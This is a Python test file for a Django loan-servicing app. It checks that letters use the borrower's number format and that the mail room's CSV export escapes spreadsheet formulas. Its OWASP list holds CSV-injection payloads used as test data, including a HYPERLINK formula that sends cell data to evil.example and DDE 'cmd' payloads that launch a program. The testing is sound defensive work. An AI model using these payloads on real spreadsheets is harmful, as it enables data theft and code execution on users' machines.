"""Letters in the borrower's language and number format, and a letter batch safe to open (issue 8, items 1 and 8).

A Danish letter says `9.499,22 kr.` whatever language the clerk who prints it reads; the clerk's confirmations are
in the clerk's language; the mail room's CSV neutralizes every text cell against spreadsheet formulas and is logged
as a `letters` export.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.messages import constants, get_messages
from django.urls import reverse

from common.models import ExportLog
from loanregister.models import Borrower, Loan, ServicerAssignment
from loanregister.services import user_language_set
from servicing.models import PaymentNotice, ServicerContact

from .servrest_support import make_loan, servicer

pytestmark = pytest.mark.django_db

BATCH = datetime.date(2026, 5, 1)
OWASP = [
    '=HYPERLINK("http://evil.example/?x="&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def _letter(loan: Loan, *, amount: str = "9499.22", language: str | None = None) -> PaymentNotice:
    amount = Decimal(amount)
    return PaymentNotice.objects.create(
        loan=loan,
        period=1,
        due_date=datetime.date(2026, 5, 12),
        interest_date=datetime.date(2026, 5, 12),
        currency=loan.currency,
        principal=amount - Decimal("1499.22"),
        interest=Decimal("1499.22"),
        fees=Decimal("0"),
        escrow=Decimal("0"),
        amount=amount,
        channel=PaymentNotice.Channel.LETTER,
        language=language or loan.borrower.preferred_language,
        business_date=BATCH,
        state=PaymentNotice.State.BATCHED,
        batch_date=BATCH,
    )


def _clerk(client, make_user, language: str):
    user = make_user(f"mailroom-{language}", "servicing")
    user_language_set(user=user, language=language)
    client.force_login(user)
    return client


def _letters_page(client) -> dict[str, str]:
    """The letter batch page's letters by loan number (each letter's HTML)."""
    html = client.get(reverse("servicing:notice-letters"), {"date": BATCH.isoformat()}).content.decode()
    parts = html.split('<article class="letter"')[1:]
    return {part.split('data-loan="', 1)[1].split('"', 1)[0]: part for part in parts}


# ---------------------------------------------------------------- item 8: the borrower's number format


@pytest.mark.parametrize("clerk_language", ["en", "da"])
def test_item8_a_letter_is_in_the_borrowers_number_format_whatever_the_clerks_language(
    client, make_user, clerk_language
):
    # given a Danish and an English borrower's letters in one batch
    _letter(make_loan("DA-1", language="da"))
    _letter(make_loan("EN-1", language="en"))
    # when a clerk reading either language prints the batch
    letters = _letters_page(_clerk(client, make_user, clerk_language))
    # then the Danish letter says 9.499,22 kr. and the English one DKK 9,499.22, each in its own words' format
    assert "9.499,22 kr." in letters["DA-1"] and "8.000,00 kr." in letters["DA-1"]
    assert "9,499.22" not in letters["DA-1"]
    assert "DKK 9,499.22" in letters["EN-1"] and "DKK 8,000.00" in letters["EN-1"]
    assert "9.499,22" not in letters["EN-1"]


def test_item8_a_letter_in_euro_keeps_the_borrowers_format(client, make_user):
    _letter(make_loan("EUR-1", language="da", currency="EUR"), amount="1234.50")
    letters = _letters_page(_clerk(client, make_user, "en"))
    assert "1.234,50 EUR" in letters["EUR-1"]


def test_item8_transfer_confirmations_are_in_the_clerks_language_and_format(client, make_user):
    # given loans of our own to move, and an English-reading clerk
    own, new = servicer("OWN", "Own Servicing A/S"), servicer("NEWCO", "Nyt Servicering ApS")
    ServicerContact.objects.create(servicer=new, payment_account="DK50 0040 0440 1162 43")
    for number in ("T-1", "T-2"):
        loan = make_loan(number, language="da")
        ServicerAssignment.objects.create(loan=loan, servicer=own, since=loan.servicer_since)
    clerk = _clerk(client, make_user, "en")
    # when the transfer is made
    response = clerk.post(
        reverse("servicing:transfer-create"),
        {"to_servicer": new.pk, "effective_date": "2026-06-01", "loan_numbers": "T-1\nT-2"},
    )
    # then the confirmation is a sentence with the date as the clerk reads dates, and no "(s)"
    [message] = list(get_messages(response.wsgi_request))
    assert message.level == constants.SUCCESS
    assert message.message == (
        "Loans moved to Nyt Servicering ApS from 1 June 2026: 2. A notice to each borrower is ready."
    )
    # and the Danish borrowers' letters are in Danish formats though the clerk reads English
    from servicing.models import TransferNotice

    body = TransferNotice.objects.filter(loan__loan_number="T-1").get().body
    assert "01.06.2026" in body and "2026-06-01" not in body


# ---------------------------------------------------------------- item 1: the mail room's CSV


@pytest.fixture
def hostile_batch():
    for index, payload in enumerate(OWASP):
        loan = make_loan(f"H-{index}", language="da")
        Borrower.objects.filter(pk=loan.borrower_id).update(name=payload, address=payload, email="")
        _letter(loan, amount="100.00")
    return len(OWASP)


def test_item1_the_letter_batch_csv_neutralizes_every_owasp_payload(client, make_user, hostile_batch):
    # when the mail room downloads the batch's CSV
    clerk = _clerk(client, make_user, "en")
    response = clerk.get(reverse("servicing:notice-letters"), {"date": BATCH.isoformat(), "format": "csv"})
    # then, read as a spreadsheet program reads it, no cell starts a formula
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["loan_number", "name", "address", "language", "due_date", "amount", "currency"]
    assert len(body) == hostile_batch
    cells = {(row[1], row[2]) for row in body}
    assert cells == {("'" + payload, "'" + payload) for payload in OWASP}
    for row in body:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[5] == "100.00"  # the amount stays a number


def test_item1_the_letter_batch_csv_is_logged_as_a_letters_export(client, make_user, hostile_batch):
    clerk = _clerk(client, make_user, "en")
    clerk.get(reverse("servicing:notice-letters"), {"date": BATCH.isoformat(), "format": "csv"})
    log = ExportLog.objects.get()
    assert (log.kind, log.source, log.format, log.row_count, log.completed) == (
        "letters",
        "web",
        "csv",
        hostile_batch,
        True,
    )
    assert log.filters == {"letter_batch": BATCH.isoformat()} and log.user.username == "mailroom-en"
